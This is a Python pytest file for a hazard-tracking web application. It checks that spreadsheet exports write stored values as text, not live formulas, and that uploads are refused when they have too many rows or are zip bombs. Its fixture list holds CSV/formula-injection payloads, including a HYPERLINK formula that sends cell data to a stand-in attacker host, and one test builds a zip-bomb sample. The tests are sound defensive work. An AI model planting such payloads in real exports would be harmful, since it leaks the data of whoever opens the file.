"""Issue 9, safe files: exports write stored text as text (never a live formula, never a 500 for a control
character), through every path a user takes — the item list's 导出, the 问题清单 and 附件1 from the API and the CLI."""

from __future__ import annotations

import io

import openpyxl
import pytest
from litestar.testing import TestClient
from sqlalchemy import update
from sqlmodel import Session

from db.models import Enterprise, HazardItem
from db.record_models import TypicalCase
from tests.conftest import NOW, PUDONG_USCC, MovableClock, World, register_input
from tests.web.api_support import Api, make_app
from tests.web.test_pages import login
from web import cli
from workflow import records, services

# What a stored value may start with (OWASP's formula triggers) and a control character that XLSX cannot hold.
HOSTILE = ['=HYPERLINK("http://evil.example/?d="&A1,"点我")', "+1", "@SUM(A1)", "-2", "响\x07铃"]
EXPECTED = HOSTILE[:4] + ["响\ufffd铃"]  # the control character is replaced by U+FFFD; the rest is exact
PERIOD = {"from": "2023-07-01", "to": "2023-07-31"}


@pytest.fixture
def hostile_world(any_world: World) -> World:
    """One item and one typical case per hostile value, the value stored as is (as if an older version, a direct
    database edit or an import had let it in): the item's 整治措施 and 隐患事实, the case's 案例内容 and 办理进度."""
    world = any_world
    for text in HOSTILE:
        item_id = services.register_item(world.uow(), world.handler, register_input(), NOW).item_id
        records.create_record(world.uow(), "typical_case", world.handler,
                              dict(item_id=item_id, reported_on="2023-07-05", content="案例", progress="办理中"), NOW)
        with Session(world.db.writer) as s:
            s.execute(update(HazardItem).where(HazardItem.id == item_id).values(measures=text, facts=text))
            s.execute(update(TypicalCase).where(TypicalCase.item_id == item_id).values(content=text, progress=text))
            s.commit()
    with Session(world.db.writer) as s:
        s.execute(update(Enterprise).where(Enterprise.uscc == PUDONG_USCC).values(name="=1+2"))
        s.commit()
    return world


def _column(data: bytes, header: str, header_row: int) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    headers = [c.value for c in sheet[header_row]]
    index = headers.index(header)
    return [row[index] for row in sheet.iter_rows(min_row=header_row + 1) if row[index].value is not None]


def _assert_text_cells(cells: list, expected: list[str]) -> None:
    assert [c.value for c in cells] == expected
    assert [c.data_type for c in cells] == ["s"] * len(expected)  # no formula cell ("f")
    assert [bool(c.quotePrefix) for c in cells] == [t[0] in "=+-@" for t in expected]


def _assert_issue_list(data: bytes) -> None:
    _assert_text_cells(_column(data, "整治措施", 3), EXPECTED)
    _assert_text_cells(_column(data, "企业名称", 3), ["=1+2"] * len(EXPECTED))


def _assert_ledger(data: bytes) -> None:
    for header in ("案例内容", "典型案例办理进度"):
        _assert_text_cells(_column(data, header, 4), EXPECTED)


def test_the_item_export_writes_stored_formulas_and_control_characters_as_text(hostile_world, tmp_path):
    with TestClient(make_app(hostile_world, tmp_path, MovableClock())) as client:
        login(client, "pd.handler")
        response = client.get("/items/export")
    assert response.status_code == 200, response.text
    _assert_text_cells(sorted(_column(response.content, "整治措施", 1), key=lambda c: EXPECTED.index(c.value)),
                       EXPECTED)
    _assert_text_cells(_column(response.content, "企业名称", 1), ["=1+2"] * len(EXPECTED))


@pytest.mark.parametrize("user", ["pd.handler", "city.supervisor"])  # the unit's and the city's reports
def test_the_issue_list_and_the_ledger_from_the_api_write_text_as_text(hostile_world, tmp_path, user):
    with TestClient(make_app(hostile_world, tmp_path, MovableClock())) as client:
        api = Api(client)
        issues = api.get("/api/v1/reports/issue-list", user, params={**PERIOD, "format": "xlsx"})
        ledger = api.get("/api/v1/reports/ledger", user, params={**PERIOD, "format": "xlsx"})
    assert issues.status_code == 200, issues.text
    assert ledger.status_code == 200, ledger.text
    _assert_issue_list(issues.content)
    _assert_ledger(ledger.content)


def test_the_issue_list_and_the_ledger_from_the_cli_write_text_as_text(hostile_world, tmp_path, monkeypatch,
                                                                       capsys):
    monkeypatch.setenv("HAZARDTRACK_DATABASE_URL", hostile_world.db.url)
    for kind, check in (("issues", _assert_issue_list), ("ledger", _assert_ledger)):
        output = tmp_path / f"{kind}.xlsx"
        code = cli.main(["report", kind, "--unit", "310115", "--from", PERIOD["from"], "--to", PERIOD["to"],
                         "--format", "xlsx", "--output", str(output)])
        assert code == 0, capsys.readouterr().err
        check(output.read_bytes())


# --- imports: bounded before and while the file is parsed ---------------------------------------------------

HEADER = "统一社会信用代码,企业名称,住所,法定代表人,联系电话,所属单位,企业类型"
BAD_ROW = "91310115591693856B,上海甲燃气器具有限公司,,,,310115,生产"  # a wrong check digit


def _csv(*rows: str) -> bytes:
    return ("\n".join([HEADER, *rows]) + "\n").encode()


def _upload(world: World, tmp_path, filename: str, data: bytes):
    from tests.web.test_pages import csrf

    with TestClient(make_app(world, tmp_path, MovableClock())) as client:
        login(client, "pd.handler")
        return client.post("/enterprises/import", files={"data": (filename, data, "application/octet-stream")},
                           data={"_csrf_token": csrf(client, "/enterprises/import")}, follow_redirects=False)


def test_an_upload_of_100000_rows_is_refused_at_the_row_bound_with_a_short_page(world, tmp_path):
    data = _csv(*["1"] * 100_000)
    assert len(data) < 300 * 1024
    response = _upload(world, tmp_path, "rows.csv", data)
    assert response.status_code == 422
    assert "超过 20,000 行数据的上限" in response.text and "共有 1 处错误" in response.text
    assert len(response.content) < 100 * 1024  # it was a 14 MB page


def test_an_upload_with_an_error_on_every_row_lists_100_and_counts_all(world, tmp_path):
    response = _upload(world, tmp_path, "bad.csv", _csv(*[BAD_ROW] * 5_000))
    assert response.status_code == 422
    assert "共有 5,000 处错误" in response.text and "另有 4,900 处错误未列出（共 5,000 处）" in response.text
    assert response.text.count("校验位错误") == 100
    assert len(response.content) < 100 * 1024


def test_an_uploaded_xlsx_declaring_3_gb_of_shared_strings_is_refused_as_a_zip_bomb(world, tmp_path):
    from tests.workflow.test_enterprise_rows import declare_size, good_xlsx
    import zipfile

    out = io.BytesIO(good_xlsx())
    with zipfile.ZipFile(out, "a", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("xl/sharedStrings.xml", "<sst>" + "<si><t>重复</t></si>" * 100_000 + "</sst>")
    response = _upload(world, tmp_path, "bomb.xlsx", declare_size(out.getvalue(), "xl/sharedStrings.xml", 3 << 30))
    assert response.status_code == 422
    assert "疑似压缩炸弹" in response.text and "所有企业均未导入" in response.text


def test_the_cli_import_is_bounded_the_same_way(world, tmp_path, monkeypatch, capsys):
    monkeypatch.setenv("HAZARDTRACK_DATABASE_URL", world.db.url)
    rows, bad = tmp_path / "rows.csv", tmp_path / "bad.csv"
    rows.write_bytes(_csv(*["1"] * 100_000))
    bad.write_bytes(_csv(*[BAD_ROW] * 5_000))
    assert cli.main(["import-enterprises", str(rows)]) == 1
    assert "超过 20,000 行数据的上限" in capsys.readouterr().err
    assert cli.main(["import-enterprises", str(bad)]) == 1
    err = capsys.readouterr().err
    assert "共 5000 处错误" in err and err.rstrip().endswith("另有 4,900 处错误未列出（共 5,000 处）")
    assert err.count("\n") <= 102
    huge = tmp_path / "huge.csv"
    with huge.open("wb") as f:
        f.truncate(20 * 1024 * 1024 + 1)  # sparse: refused from its size, never read
    assert cli.main(["import-enterprises", str(huge)]) == 1
    assert "超过 20 MB 上限" in capsys.readouterr().err
